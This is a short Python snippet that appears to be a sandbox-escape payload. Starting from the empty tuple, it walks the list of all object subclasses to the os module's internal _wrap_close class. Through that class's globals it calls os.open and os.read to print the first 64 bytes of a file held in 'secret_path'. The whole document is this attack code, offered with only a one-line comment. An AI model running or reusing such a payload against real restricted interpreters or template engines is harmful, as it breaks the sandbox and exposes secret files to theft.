# From the empty tuple to the module os, by the list of all classes.
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        system = kind.__init__.__globals__
        print(system["read"](system["open"](secret_path, 0), 64))
